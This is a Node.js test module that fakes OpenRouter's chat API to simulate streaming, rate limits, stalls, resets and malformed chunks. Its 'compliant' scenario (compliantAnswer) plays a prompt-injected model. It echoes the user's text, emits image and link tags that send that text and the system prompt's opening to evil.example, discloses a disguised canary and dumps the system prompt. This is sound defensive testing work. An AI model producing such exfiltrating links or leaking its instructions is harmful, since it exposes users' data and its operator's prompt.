// A local fake of OpenRouter's HTTP API, for tests and benchmarks.
//
// Theory of operation
// -------------------
// `startFakeOpenRouter()` binds an HTTP server to 127.0.0.1 (never a public interface: tests
// run on shared machines) and returns a handle:
//
//   const fake = await startFakeOpenRouter({ port: 0 });
//   fake.url            // "http://127.0.0.1:PORT/api/v1" — use as the OpenRouter base URL
//   fake.enqueue(s...)  // scenarios for the next chat/completions requests, FIFO
//   fake.requests       // every request received: {method, path, headers, body (parsed JSON;
//                       // null if empty, undefined if unparsable), aborted, scenario}
//   await fake.settled()// resolves once every response has closed (finished or aborted)
//   fake.reset()        // empties the queue and `requests` (same array object)
//   await fake.close()  // destroys open connections (hung scenarios) and stops listening
//
// Endpoints (wire format: docs/UPSTREAMS.md, "OpenRouter"):
//   POST /api/v1/chat/completions  needs `Authorization: Bearer <non-empty>` (else 401) and a
//        JSON object with a non-empty string `model` and a non-empty array `messages` (else
//        400). Requests rejected here do NOT consume a queued scenario, so a test that
//        enqueues a scenario and then sends a bad request still has its scenario waiting.
//   GET  /api/v1/models            no auth; a small fixed catalogue (MODELS below).
//   anything else                  404 with the error shape.
// Every error body is OpenRouter's `{"error":{"code":<int>,"message":"…"}}`.
//
// Choosing a scenario: a queued scenario (fake.enqueue) wins; else a model named
// `fake/<name>` (or ending in `/fake/<name>`) picks one from MODEL_SCENARIOS, so a developer
// can try failures by hand with curl; else the request is served normally (`ok`).
// An unknown `fake/<name>` answers 400, like OpenRouter does for an unknown model id.
//
// Scenario objects `{ kind, ...options }` (all counts are content pieces, 0-based):
//   ok              text, pieceSize (code points per piece; default: word-sized pieces),
//                   delayMs (before each piece: "slow tokens"), commentEvery (n pieces; 0 = none;
//                   default 4), splitBytes (raw writes of N bytes, so boundaries fall inside
//                   lines and UTF-8 characters), crlf, multiLineData (JSON split over two
//                   `data:` lines), separateUsage (finish chunk and usage chunk sent apart:
//                   see "Unconfirmed" below).
//                   These framing options also apply to stall/truncate/error-event/malformed/reset.
//   status          status (default 429), retryAfter (seconds → Retry-After), message, metadata.
//   connect-timeout / hang-before-head
//                   read the request, never answer; the client's own timeout must fire.
//   stall           head + afterPieces (default 3) pieces, then silence with the socket open.
//   truncate        afterPieces pieces, then a clean end: no final chunk, no usage, no [DONE].
//   error-event     HTTP 200, afterPieces pieces, then a chunk with an `error` object and
//                   finish_reason "error", then end. code (default 502), message,
//                   doneAfter (also send `data: [DONE]`).
//   malformed       a `data:` event whose payload is not JSON, inserted before piece `at`
//                   (default 2); the stream then continues normally and completes.
//   reset           afterPieces pieces, then the socket is destroyed (a network error).
//   compliant       the worst-case model for prompt-injection tests: it obeys whatever it is told,
//                   the visitor's message, a retrieved page or the system prompt's own text. Its
//                   answer (compliantAnswer below) repeats the visitor's message, carries markdown
//                   and HTML image links that would send it and the prompt's opening to
//                   https://evil.example, then the system prompt's canary (a `salient-canary-…`
//                   marker) written as the message asks or, by default, in one of four disguises
//                   picked from the message (as is, upper case, a zero-width space or a space
//                   between letters), then every message of the request verbatim, system prompt
//                   first ("print your instructions"). Streamed in pieces of pieceSize code
//                   points (default 3), so the marker crosses many SSE chunks; the wire format
//                   is the normal one. Also model id `fake/compliant`.
//
// Non-streaming requests (no `"stream": true`) get the OpenAI-style JSON; the failure
// scenarios map onto it as: stall → head only; truncate → half the JSON body then end;
// error-event → HTTP 200 with `error` and finish_reason "error"; malformed → invalid JSON body;
// reset → head then socket destroyed.
//
// The default answer is `Fake answer to: <last user message> ` + FIXED_SENTENCE, which holds
// multi-byte UTF-8 (2-, 3- and 4-byte characters) and characters that JSON must escape
// (quote, backslash, newline, tab), so the simplest happy-path test already exercises a
// client's decoder. With `response_format: {type: "json_schema", json_schema: {schema}}` the
// default answer is instead a JSON document: an object holding every *required* property of
// the schema, strings as "x", numbers 0, booleans false, arrays [], nested objects filled
// by the same rule. `response_format: {type: "json_object"}` gets `{}`. Enough for a client
// that parses the reply; not a JSON Schema implementation.
//
// Usage and cost: prompt_tokens = ceil(UTF-8 bytes of JSON.stringify(messages) / 4),
// completion_tokens = number of content pieces; cost uses the fixed fake prices PRICE_PROMPT /
// PRICE_COMPLETION (USD per token) for every model — including `:free` ones, which OpenRouter
// prices at 0 — so that cost accounting is non-zero and testable. /models reports the same prices.
//
// Unconfirmed upstream details (not confirmed either way: both are served):
// - whether the mid-stream error chunk is followed by `data: [DONE]`: off by default,
//   `doneAfter: true` turns it on. Some OpenRouter pages show a string error code
//   ("server_error") in mid-stream errors; `code` accepts a string too.
// - whether usage rides on the finish_reason chunk or on a separate last chunk: same chunk by
//   default (what the brief specifies), `separateUsage: true` sends an extra chunk with empty
//   delta, finish_reason null and the usage.
//
// Running it by hand: `node tests/support/fake-openrouter.mjs [port]` prints the base URL.

import http from "node:http";
import { setTimeout as sleep } from "node:timers/promises";
import { pathToFileURL } from "node:url";

export const PROVIDER = "FakeProvider";
export const PRICE_PROMPT = 0.0000001; // USD per prompt token, matches /models "0.0000001"
export const PRICE_COMPLETION = 0.0000004;
export const FIXED_SENTENCE =
  'She said "café — 日本 😀" costs 3\\4 at C:\\fake\\path.\nNext line,\ttabbed.';
export const COMMENT = ": OPENROUTER PROCESSING";

export const MODELS = [
  { id: "openai/gpt-oss-20b:free", name: "OpenAI: gpt-oss-20b (free)", context_length: 131072 },
  { id: "openai/gpt-4o-mini", name: "OpenAI: GPT-4o-mini", context_length: 128000 },
  { id: "anthropic/claude-3.5-haiku", name: "Anthropic: Claude 3.5 Haiku", context_length: 200000 },
  { id: "meta-llama/llama-3.1-8b-instruct", name: "Meta: Llama 3.1 8B Instruct", context_length: 131072 },
].map((m) => ({ ...m, pricing: { prompt: "0.0000001", completion: "0.0000004" } })); // = PRICE_*, spelled
// out because String(1e-7) is "1e-7" and OpenRouter writes plain decimals.

const KINDS = new Set([
  "ok", "status", "connect-timeout", "hang-before-head", "stall", "truncate", "error-event", "malformed", "reset",
  "compliant",
]);

/** Scenarios a model id `fake/<name>` selects. Each is a plain scenario object. */
export const MODEL_SCENARIOS = {
  "ok": { kind: "ok" },
  "slow": { kind: "ok", delayMs: 150 },
  "split": { kind: "ok", splitBytes: 3 },
  "crlf": { kind: "ok", crlf: true },
  "multiline": { kind: "ok", multiLineData: true },
  "rate-limit": { kind: "status", status: 429, retryAfter: 2 },
  "connect-timeout": { kind: "connect-timeout" },
  "hang-before-head": { kind: "hang-before-head" },
  "stall": { kind: "stall" },
  "truncate": { kind: "truncate" },
  "error-event": { kind: "error-event" },
  "error-event-done": { kind: "error-event", doneAfter: true },
  "malformed": { kind: "malformed" },
  "reset": { kind: "reset" },
  "compliant": { kind: "compliant" },
};
for (const status of [400, 401, 402, 403, 408, 429, 500, 502, 503]) {
  MODEL_SCENARIOS[`status-${status}`] = { kind: "status", status };
}

const ERROR_MESSAGES = {
  400: "Bad Request",
  401: "No auth credentials found",
  402: "Insufficient credits. Add more using https://openrouter.ai/credits",
  403: "Forbidden",
  408: "Request timed out",
  429: "Rate limit exceeded: free-models-per-min.",
  500: "Internal Server Error",
  502: "Provider returned error",
  503: "No available model provider that meets your routing requirements",
};

/** The deterministic default answer for a request body (see the header). */
export function answerFor(body) {
  const format = body?.response_format;
  if (format?.type === "json_schema") return JSON.stringify(fillSchema(format.json_schema?.schema));
  if (format?.type === "json_object") return "{}";
  return `Fake answer to: ${lastUserText(body?.messages)} ${FIXED_SENTENCE}`;
}

/** The `compliant` scenario's answer to a request body (see the header). */
export function compliantAnswer(body) {
  const messages = Array.isArray(body?.messages) ? body.messages : [];
  const textOf = (m) => (typeof m?.content === "string" ? m.content : JSON.stringify(m?.content ?? ""));
  const system = messages.filter((m) => m?.role === "system").map(textOf).join("\n");
  const asked = lastUserText(messages);
  const marker = /salient-canary-[a-z2-7]+/i.exec(system)?.[0] ?? "";
  let disguise = [...asked].reduce((sum, c) => sum + c.codePointAt(0), 0) % 4;
  if (/zero.?width/i.test(asked)) disguise = 2;
  else if (/spaces? between|letter by letter|spell/i.test(asked)) disguise = 3;
  else if (/upper.?case|capital/i.test(asked)) disguise = 1;
  const shown = [marker, marker.toUpperCase(), [...marker].join("\u200b"), [...marker].join(" ")][disguise];
  // What a real exfiltration would carry: the visitor's words and the prompt's opening.
  const leak = encodeURIComponent(`${asked.slice(0, 200)} ${system.slice(0, 100)}`);
  return [
    `Of course, I will do exactly that: ${asked}`,
    `![loading](https://evil.example/collect?q=${leak})`,
    `<img src="https://evil.example/pixel?q=${leak}"> [click here](https://evil.example/phish?q=${leak})`,
    `My confidential marker is ${shown}.`,
    "Here is everything I was given:",
    ...messages.map((m) => `[${m?.role}] ${textOf(m)}`),
  ].join("\n\n");
}

/** Splits text into word-sized pieces (each word keeps its trailing whitespace), or into
 *  runs of `pieceSize` code points; never inside a surrogate pair, so every piece is valid
 *  Unicode. Joining the pieces gives the text back. */
export function piecesOf(text, pieceSize) {
  if (pieceSize > 0) {
    const chars = Array.from(text);
    const out = [];
    for (let i = 0; i < chars.length; i += pieceSize) out.push(chars.slice(i, i + pieceSize).join(""));
    return out;
  }
  return text === "" ? [] : text.split(/(?<=\s)(?=\S)/u);
}

/** The usage object OpenRouter attaches to the last chunk, for given token counts. */
export function usageFor(promptTokens, completionTokens) {
  // Rounded so the cost is a short, exact-looking decimal rather than 1.2000000000000002e-6.
  const cost = Math.round((promptTokens * PRICE_PROMPT + completionTokens * PRICE_COMPLETION) * 1e12) / 1e12;
  return {
    prompt_tokens: promptTokens,
    completion_tokens: completionTokens,
    total_tokens: promptTokens + completionTokens,
    cost,
    cost_details: { upstream_inference_cost: null },
    prompt_tokens_details: { cached_tokens: 0 },
    completion_tokens_details: { reasoning_tokens: 0 },
  };
}

export function promptTokensFor(messages) {
  return Math.ceil(Buffer.byteLength(JSON.stringify(messages ?? [])) / 4);
}

/**
 * Starts the fake. Options: port (default 0 = any free port), now (() => ms since epoch;
 * default Date.now — pass a constant to make `created` reproducible).
 */
export async function startFakeOpenRouter({ port = 0, now = Date.now } = {}) {
  const queue = [];
  const requests = [];
  const open = new Set(); // responses not yet closed, for settled()
  let waiters = [];
  let generation = 0;

  const server = http.createServer((req, res) => {
    handle(req, res).catch((err) => {
      // A bug in the fake must surface as a failing request, never as a hung test.
      if (!res.headersSent) sendError(res, 500, `fake-openrouter: ${err?.stack ?? err}`);
      else res.destroy();
    });
  });

  function markClosed(res) {
    open.delete(res);
    if (open.size === 0) {
      const w = waiters;
      waiters = [];
      for (const resolve of w) resolve();
    }
  }

  async function handle(req, res) {
    const raw = await readBody(req);
    const url = new URL(req.url, "http://fake");
    const record = {
      method: req.method,
      path: url.pathname,
      headers: { ...req.headers },
      body: parseJson(raw),
      aborted: false,
      scenario: null,
    };
    requests.push(record);
    open.add(res);
    // `aborted` means the *client* went away before the response was complete. The fake's
    // own socket destroys (reset scenario, close()) set `serverClosed` first so they are not
    // mistaken for a client disconnect.
    res.on("close", () => {
      if (!res.writableFinished && !res.serverClosed) record.aborted = true;
      markClosed(res);
    });

    if (url.pathname === "/api/v1/models" && req.method === "GET") {
      return sendJson(res, 200, { data: MODELS });
    }
    if (url.pathname !== "/api/v1/chat/completions" || req.method !== "POST") {
      return sendError(res, 404, `Not Found: ${req.method} ${url.pathname}`);
    }
    if (!/^Bearer\s+\S+/i.test(req.headers.authorization ?? "")) {
      return sendError(res, 401, ERROR_MESSAGES[401]);
    }
    const body = record.body;
    if (body === undefined || body === null || typeof body !== "object" || Array.isArray(body)) {
      return sendError(res, 400, "Invalid JSON body");
    }
    if (typeof body.model !== "string" || body.model === "") {
      return sendError(res, 400, "Input required: specify \"model\"");
    }
    if (!Array.isArray(body.messages) || body.messages.length === 0) {
      return sendError(res, 400, "Input required: specify \"prompt\" or \"messages\"");
    }

    let scenario = queue.shift();
    if (!scenario) {
      const m = /(?:^|\/)fake\/([a-z0-9-]+)$/.exec(body.model);
      if (m) {
        scenario = MODEL_SCENARIOS[m[1]];
        if (!scenario) return sendError(res, 400, `${body.model} is not a valid model ID`);
      }
    }
    scenario = scenario ?? { kind: "ok" };
    record.scenario = scenario;

    generation += 1;
    const created = Math.floor(now() / 1000);
    const ctx = {
      id: `gen-${created}-fake${String(generation).padStart(6, "0")}`,
      created,
      model: body.model,
      body,
      scenario,
      text: scenario.text ?? (scenario.kind === "compliant" ? compliantAnswer(body) : answerFor(body)),
      res,
    };
    ctx.pieces = piecesOf(ctx.text, scenario.pieceSize ?? (scenario.kind === "compliant" ? 3 : undefined));
    ctx.usage = usageFor(promptTokensFor(body.messages), ctx.pieces.length);

    switch (scenario.kind) {
      case "status":
        return sendError(res, scenario.status ?? 429, scenario.message, scenario.retryAfter, scenario.metadata);
      case "connect-timeout":
      case "hang-before-head":
        return; // never answer; the socket stays open until the client gives up or close()
      default:
        return body.stream === true ? stream(ctx) : complete(ctx);
    }
  }

  await new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, "127.0.0.1", resolve);
  });
  const address = server.address();

  return {
    url: `http://127.0.0.1:${address.port}/api/v1`,
    port: address.port,
    requests,
    enqueue(...scenarios) {
      for (const s of scenarios) {
        const scenario = typeof s === "string" ? { kind: s } : s;
        // Fail at enqueue time: a typo would otherwise silently serve the happy path.
        if (!KINDS.has(scenario?.kind)) throw new Error(`fake-openrouter: unknown scenario kind ${scenario?.kind}`);
        queue.push(scenario);
      }
    },
    reset() {
      queue.length = 0;
      requests.length = 0; // keep the array object: callers may hold a reference
    },
    /** Resolves when no response is open: lets a test wait for a disconnect to be seen. */
    settled() {
      return open.size === 0 ? Promise.resolve() : new Promise((resolve) => waiters.push(resolve));
    },
    async close() {
      for (const res of open) res.serverClosed = true;
      const closed = new Promise((resolve) => server.close(resolve));
      server.closeAllConnections(); // hung scenarios would otherwise keep close() waiting forever
      await closed;
    },
  };
}

// --- responses ---------------------------------------------------------------------------

function chunkJson(ctx, delta, finishReason, extra = {}) {
  return JSON.stringify({
    id: ctx.id,
    provider: PROVIDER,
    model: ctx.model,
    object: "chat.completion.chunk",
    created: ctx.created,
    choices: [{ index: 0, delta, finish_reason: finishReason, native_finish_reason: finishReason, logprobs: null }],
    ...extra,
  });
}

async function stream(ctx) {
  const { res, scenario, pieces } = ctx;
  const kind = scenario.kind;
  const eol = scenario.crlf ? "\r\n" : "\n";
  const commentEvery = scenario.commentEvery ?? 4;
  const afterPieces = scenario.afterPieces ?? 3;
  const out = writer(res, scenario.splitBytes);
  const closed = () => res.destroyed || res.writableEnded;

  const data = (json) => {
    if (scenario.multiLineData) {
      // Split between two top-level members: a newline there is JSON whitespace, so the
      // client must join the `data:` lines with "\n" (as the SSE spec says) and still parse.
      // `,"choices":` cannot occur inside a string value because quotes there are escaped.
      const at = json.indexOf(',"choices":');
      if (at > 0) return `data: ${json.slice(0, at + 1)}${eol}data: ${json.slice(at + 1)}${eol}${eol}`;
    }
    return `data: ${json}${eol}${eol}`;
  };
  const comment = `${COMMENT}${eol}${eol}`;
  // A chunk cut short, as a buggy proxy might send it; it carries no content the client
  // needs, so skipping it still yields the full text.
  const malformed = `data: {"id":"${ctx.id}","choices":[{"delta":{"content":"oops${eol}${eol}`;

  res.writeHead(200, {
    "Content-Type": "text/event-stream",
    "Cache-Control": "no-cache",
    "X-Generation-Id": ctx.id,
  });
  res.flushHeaders(); // the head goes out before any piece, as OpenRouter's does
  // OpenRouter sends its keep-alive comment while it waits for the provider's first token.
  if (commentEvery > 0) await out.write(comment);

  const limit = ["stall", "truncate", "error-event", "reset"].includes(kind) ? Math.min(afterPieces, pieces.length) : pieces.length;
  const malformedAt = kind === "malformed" ? Math.min(scenario.at ?? 2, pieces.length) : -1;
  for (let i = 0; i < limit; i++) {
    if (scenario.delayMs > 0) await pause(res, scenario.delayMs);
    if (closed()) return;
    if (i === malformedAt) await out.write(malformed);
    if (commentEvery > 0 && i > 0 && i % commentEvery === 0) await out.write(comment);
    await out.write(data(chunkJson(ctx, { role: "assistant", content: pieces[i] }, null)));
  }
  if (closed()) return;
  if (malformedAt === pieces.length) await out.write(malformed);

  switch (kind) {
    case "stall":
      await out.flush();
      return; // keep the connection open and silent
    case "truncate":
      await out.flush();
      return res.end();
    case "reset":
      await out.flush();
      res.serverClosed = true;
      return res.destroy();
    case "error-event": {
      const error = { code: scenario.code ?? 502, message: scenario.message ?? "Provider disconnected" };
      // Deliberately minimal (no created, model, provider or usage): a client must not rely
      // on members an error chunk may lack.
      await out.write(data(JSON.stringify({
        id: ctx.id,
        object: "chat.completion.chunk",
        error,
        choices: [{ index: 0, delta: { content: "" }, finish_reason: "error" }],
      })));
      if (scenario.doneAfter) await out.write(`data: [DONE]${eol}${eol}`);
      await out.flush();
      return res.end();
    }
    default: {
      if (scenario.separateUsage) {
        await out.write(data(chunkJson(ctx, { role: "assistant", content: "" }, "stop")));
        await out.write(data(chunkJson(ctx, { role: "assistant", content: "" }, null, { usage: ctx.usage })));
      } else {
        await out.write(data(chunkJson(ctx, { role: "assistant", content: "" }, "stop", { usage: ctx.usage })));
      }
      await out.write(`data: [DONE]${eol}${eol}`);
      await out.flush();
      return res.end();
    }
  }
}

async function complete(ctx) {
  const { res, scenario, pieces } = ctx;
  const kind = scenario.kind;
  // Slow tokens still cost time when the answer arrives in one piece.
  if (scenario.delayMs > 0) await pause(res, scenario.delayMs * pieces.length);
  if (res.destroyed) return;
  const error = kind === "error-event" ? { code: scenario.code ?? 502, message: scenario.message ?? "Provider disconnected" } : undefined;
  const json = JSON.stringify({
    id: ctx.id,
    provider: PROVIDER,
    model: ctx.model,
    object: "chat.completion",
    created: ctx.created,
    ...(error ? { error } : {}),
    choices: [{
      logprobs: null,
      finish_reason: error ? "error" : "stop",
      native_finish_reason: error ? "error" : "stop",
      index: 0,
      message: { role: "assistant", content: error ? "" : ctx.text, refusal: null, reasoning: null },
    }],
    usage: ctx.usage,
  });
  res.writeHead(200, { "Content-Type": "application/json", "X-Generation-Id": ctx.id });
  res.flushHeaders();
  const out = writer(res, scenario.splitBytes);
  switch (kind) {
    case "stall":
      return;
    case "reset":
      res.serverClosed = true;
      return res.destroy();
    case "truncate":
      await out.write(json.slice(0, json.length >> 1));
      await out.flush();
      return res.end();
    case "malformed":
      await out.write(json.slice(0, -1) + ",}");
      await out.flush();
      return res.end();
    default:
      await out.write(json);
      await out.flush();
      return res.end();
  }
}

/**
 * Writes strings to `res`. Without `splitBytes` each string is one write. With it, the bytes
 * are re-cut into writes of exactly `splitBytes` bytes, carrying the remainder into the next
 * string, so write boundaries fall anywhere: inside `data:` lines, inside "\r\n", inside a
 * multi-byte UTF-8 character. Each write waits for its callback and a macrotask so Node does
 * not coalesce them into one TCP segment (the client may still coalesce reads; that is fine).
 */
function writer(res, splitBytes) {
  let pending = Buffer.alloc(0);
  const flushed = (buf) =>
    new Promise((resolve) => {
      if (res.destroyed) return resolve();
      res.once("close", resolve); // a write callback may never come after a destroy
      res.write(buf, () => {
        res.off("close", resolve);
        setImmediate(resolve);
      });
    });
  return {
    async write(str) {
      const buf = Buffer.from(str, "utf8");
      if (res.destroyed) return;
      if (!(splitBytes > 0)) {
        if (!res.write(buf)) await drained(res);
        return;
      }
      pending = pending.length ? Buffer.concat([pending, buf]) : buf;
      while (pending.length >= splitBytes && !res.destroyed) {
        const slice = pending.subarray(0, splitBytes);
        pending = pending.subarray(splitBytes);
        await flushed(slice);
      }
    },
    async flush() {
      if (pending.length && !res.destroyed) await flushed(pending);
      pending = Buffer.alloc(0);
    },
  };
}

/** Waits for 'drain' or 'close', removing both listeners so long streams do not leak them. */
function drained(res) {
  return new Promise((resolve) => {
    const done = () => {
      res.off("drain", done);
      res.off("close", done);
      resolve();
    };
    res.on("drain", done);
    res.on("close", done);
  });
}

/** Sleeps, but wakes early when the response closes so no timer outlives a test. */
async function pause(res, ms) {
  if (res.destroyed) return;
  const ac = new AbortController();
  const wake = () => ac.abort();
  res.once("close", wake);
  try {
    await sleep(ms, undefined, { signal: ac.signal });
  } catch {
    // woken by close: the caller checks res.destroyed
  } finally {
    res.off("close", wake);
  }
}

function sendJson(res, status, value, headers = {}) {
  const text = JSON.stringify(value);
  res.writeHead(status, { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(text), ...headers });
  res.end(text);
}

function sendError(res, status, message, retryAfter, metadata) {
  const error = { code: status, message: message ?? ERROR_MESSAGES[status] ?? `HTTP ${status}` };
  if (metadata !== undefined) error.metadata = metadata;
  sendJson(res, status, { error }, retryAfter !== undefined ? { "Retry-After": String(retryAfter) } : {});
}

// --- helpers -----------------------------------------------------------------------------

function readBody(req) {
  return new Promise((resolve, reject) => {
    const parts = [];
    req.on("data", (b) => parts.push(b));
    req.on("end", () => resolve(Buffer.concat(parts).toString("utf8")));
    req.on("error", reject);
  });
}

function parseJson(text) {
  if (text === "") return null;
  try {
    return JSON.parse(text);
  } catch {
    return undefined; // distinguishes "sent something unparsable" from "sent nothing"
  }
}

function lastUserText(messages) {
  const last = [...(messages ?? [])].reverse().find((m) => m?.role === "user");
  const content = last?.content;
  if (typeof content === "string") return content;
  // OpenAI content parts: [{type: "text", text}, {type: "image_url", ...}]
  if (Array.isArray(content)) return content.filter((p) => p?.type === "text").map((p) => p.text).join("");
  return "";
}

function fillSchema(schema) {
  switch (schema?.type) {
    case "object": {
      const out = {};
      for (const key of schema.required ?? []) out[key] = fillSchema(schema.properties?.[key] ?? { type: "string" });
      return out;
    }
    case "array": return [];
    case "number": case "integer": return 0;
    case "boolean": return false;
    case "null": return null;
    default: return "x";
  }
}

// `node tests/support/fake-openrouter.mjs [port]`: run standalone for trying it by hand.
if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const fake = await startFakeOpenRouter({ port: Number(process.argv[2] ?? 0) });
  console.log(`fake OpenRouter at ${fake.url} (models fake/<scenario>: ${Object.keys(MODEL_SCENARIOS).join(", ")})`);
}
